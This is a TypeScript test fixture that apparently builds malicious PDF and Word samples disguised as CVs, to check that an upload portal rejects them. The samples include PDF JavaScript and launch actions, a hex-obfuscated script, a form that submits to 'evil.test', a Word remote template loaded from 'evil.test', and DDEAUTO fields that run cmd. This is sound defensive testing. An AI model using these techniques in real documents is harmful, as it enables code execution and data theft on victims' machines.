import { makeDoc, makeZip } from '@portal/test-kit';

const kinds = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A PDF with this object; its table of objects is missing, but readers and the portal rebuild it. */
function pdfWith(object: string, catalog = ''): Buffer {
  return Buffer.from(
    [
      '%PDF-1.7',
      `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalog} >> endobj`,
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >> endobj',
      `4 0 obj ${object} endobj`,
      'trailer << /Root 1 0 R >>',
      'startxref',
      '0',
      '%%EOF',
    ].join('\n'),
    'latin1',
  );
}

const pdfs: Readonly<Record<string, string>> = {
  'a script': '<< /S /JavaScript /JS (app.alert(1)) >>',
  'a script in disguise': '<< /S /#4aavaScript /#4aS (app.alert(1)) >>',
  'a rendition with a script': '<< /S /Rendition /OP 0 /JS (app.alert(1)) >>',
  'a program to start': '<< /S /Launch /F (cmd.exe) >>',
  'a file of a share': '<< /S /GoToR /F (\\\\\\\\evil.test\\\\a.pdf) >>',
  'a form to send': '<< /S /SubmitForm /F (https://evil.test) >>',
  'data to take in': '<< /S /ImportData /F (a.fdf) >>',
  'an attached file': '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
  'an action that nobody knows': '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Mine >> >>',
  'an address that is a script': '<< /S /URI /URI (javascript:alert(1)) >>',
  'an address that is a script behind a blank': '<< /S /URI /URI ( javascript:alert(1)) >>',
};

const word = (parts: Record<string, string>): Buffer =>
  makeZip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml':
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
    ...parts,
  });
const linked = (kind: string, target: string): Buffer =>
  word({
    'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="a" Type="${kinds}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
  });

/** A Word file whose picture takes its content from the address of a hyperlink. */
const clickedPicture = word({
  'word/document.xml':
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="a"/></w:document>',
  'word/_rels/document.xml.rels': `<Relationships><Relationship Id="a" Type="${kinds}/hyperlink" Target="https://evil.test/a.png" TargetMode="External"/></Relationships>`,
});

const texts: Readonly<Record<string, Buffer>> = {
  'a text with macros': word({ 'word/vbaProject.bin': 'x' }),
  'a text with a template elsewhere': linked('attachedTemplate', 'https://evil.test/a.dotm'),
  'a text with a picture elsewhere': linked('image', 'https://evil.test/a.png'),
  'a text with an address as a picture': clickedPicture,
  'a text with a packed object': word({ 'word/embeddings/oleObject1.bin': 'x' }),
  'a text with a control': word({ 'word/activeX/activeX1.xml': '<a/>' }),
  'a text with a field that starts a program': word({
    'word/document.xml':
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText>DDEAUTO cmd "/k calc"</w:instrText></w:document>',
  }),
  'an old text with macros': makeDoc({ parts: { 'Macros/VBA/dir': 'x' } }),
  'an old text with objects': makeDoc({ parts: { 'ObjectPool/_1/a': 'x' } }),
  'an old text with a field that starts a program': makeDoc({ text: '\u0013DDEAUTO cmd\u0014\u0015' }),
};

/** Files of the declared type whose content does more than show text. */
export const harmfulFiles: readonly { what: string; name: string; bytes: Buffer }[] = [
  ...Object.entries(pdfs).map(([what, object]) => ({ what, name: 'cv.pdf', bytes: pdfWith(object) })),
  { what: 'a form of other programs', name: 'cv.pdf', bytes: pdfWith('<< >>', '/AcroForm << /XFA 4 0 R >>') },
  { what: 'a portfolio', name: 'cv.pdf', bytes: pdfWith('<< >>', '/Collection << /View /D >>') },
  ...Object.entries(texts).map(([what, bytes]) => ({ what, name: 'cv.docx', bytes })),
];
